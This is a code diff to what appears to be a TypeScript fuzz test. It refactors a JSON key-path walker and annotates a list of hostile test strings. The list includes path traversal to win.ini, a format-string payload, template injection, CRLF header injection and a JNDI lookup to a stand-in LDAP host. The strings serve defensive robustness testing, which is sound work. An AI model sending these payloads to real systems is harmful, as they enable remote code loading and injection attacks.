@@ -44,8 +44,11 @@ type Step = string | number;
 /** Every position in `value` (the root included), as key paths. */
 function positions(value: Json, path: Step[] = [], out: Step[][] = []): Step[][] {
   out.push(path);
-  if (value instanceof Obj) value.entries.forEach(([key, item]) => typeof key === 'string' && positions(item, [...path, key], out));
-  else if (Array.isArray(value)) value.forEach((item, i) => positions(item, [...path, i], out));
+  if (value instanceof Obj) {
+    for (const [key, item] of value.entries) if (typeof key === 'string') positions(item, [...path, key], out);
+  } else if (Array.isArray(value)) {
+    for (const [i, item] of value.entries()) positions(item, [...path, i], out);
+  }
   return out;
 }
 
@@ -103,6 +106,7 @@ const NASTY_STRINGS = [
   '..\\..\\windows\\win.ini',
   '%00',
   '%s%s%n',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection payload, sent as written
   '${jndi:ldap://x/a}',
   '{{7*7}}',
   '\r\nSet-Cookie: a=b',
